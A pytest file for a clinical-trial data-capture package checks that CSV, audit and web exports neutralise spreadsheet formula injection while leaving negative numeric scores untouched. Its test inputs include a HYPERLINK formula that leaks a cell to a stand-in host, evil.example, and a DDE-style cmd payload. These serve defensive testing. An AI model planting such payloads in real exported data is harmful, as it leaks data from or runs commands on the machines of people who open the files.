"""Spreadsheet-safe CSV (issue 12, item 6): formula-like text gets a leading apostrophe in every CSV
the EDC writes; numbers (EQ-5D -0.1...) stay numbers; pmrtrial's reader restores the text."""

from __future__ import annotations

import csv
import datetime as dt
from pathlib import Path
from typing import Any

import pandas as pd
import pytest
from django.test import Client
from typer.testing import CliRunner

from pmrtrial.edc import services as svc
from pmrtrial.io.csvsafe import neutralise_cell, restore_cell
from tests.edc.conftest import PASSWORD, bachelor_text, make_users, randomised

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (EVIL, "'" + EVIL),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("'=already quoted", "''=already quoted"),
        ("-0.1", "-0.1"),  # a number written as text stays a number
        ("+2", "+2"),
        ("1e-3", "1e-3"),
        ("Herpes zoster", "Herpes zoster"),
        ("'plain quote", "'plain quote"),
        ("", ""),
    ],
)
def test_cell_rule_and_round_trip(text: str, written: str) -> None:
    assert neutralise_cell(text) == written
    assert restore_cell(written) == text


def test_numbers_are_untouched() -> None:
    assert neutralise_cell(-0.1) == -0.1 and neutralise_cell(-3) == -3 and neutralise_cell(None) is None


def _ae(p: Any, term: str) -> dict[str, Any]:
    return {
        "soc": "Infections and infestations",
        "term": term,
        "serious": False,
        "severity": "mild",
        "relatedness": "possible",
        "onset_date": (p.randomised_on + dt.timedelta(days=7)).isoformat(),
        "outcome": "recovering",
    }


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def test_edc_exports_and_audit_csv_are_spreadsheet_safe(tx_db: str, tmp_path: Path) -> None:
    from pmrtrial.cli.edc import app
    from pmrtrial.edc.exports.services import export_datasets
    from pmrtrial.io.datasets import read_datasets_raw

    svc.init_study(bachelor_text(), 2, seed=3, n_per_site=4)
    users = make_users()
    p = randomised(users, "01")
    svc.add_adverse_event(users["inv1"], p, _ae(p, EVIL))
    visit = next(v for v in ("W0", "W12", "W24", "W52") if "eq5d" in svc.forms_for_visit(v))
    v = next(x for x in p.visits.all() if x.code == visit)
    svc.save_form(users["inv1"], p, visit, "visit_info", {"visit_date": v.target_date.isoformat()})
    # EQ-5D 33333: the worst state; its UK index is negative (Dolan 1997: -0.594).
    svc.save_form(users["inv1"], p, visit, "eq5d", {"mo": 3, "sc": 3, "ua": 3, "pd": 3, "ad": 3})

    out = tmp_path / "export"
    data = export_datasets(users["dm"], out)
    ae_rows = _rows(out / "adverse_events.csv")
    term_col = ae_rows[0].index("term")
    assert ae_rows[1][term_col] == "'" + EVIL
    visit_rows = _rows(out / "visits.csv")
    col = visit_rows[0].index("eq5d_index")
    index_cells = [r[col] for r in visit_rows[1:] if r[col]]
    assert len(index_cells) == 1 and index_cells[0].startswith("-0.")  # a number, no apostrophe
    assert float(index_cells[0]) == pytest.approx(data.visits["eq5d_index"].dropna().iloc[0])
    # pmrtrial's reader returns the original text.
    _, visits, aes, _ = read_datasets_raw(out)
    assert aes["term"].iloc[0] == EVIL
    assert visits["eq5d_index"].dropna().iloc[0] < 0 and pd.api.types.is_float_dtype(visits["eq5d_index"])

    # The audit trail CSV: command line and web page.
    r = CliRunner().invoke(app, ["audit", "export", "--out", str(tmp_path / "audit.csv")])
    assert r.exit_code == 0, r.output
    cells = [c for row in _rows(tmp_path / "audit.csv") for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
    c = Client()
    assert c.login(username="inv1", password=PASSWORD)
    page = c.get(f"/p/{p.subject_id}/audit/?format=csv").content.decode()
    cells = [c for row in csv.reader(page.splitlines()) for c in row]
    assert "'" + EVIL in cells and EVIL not in cells
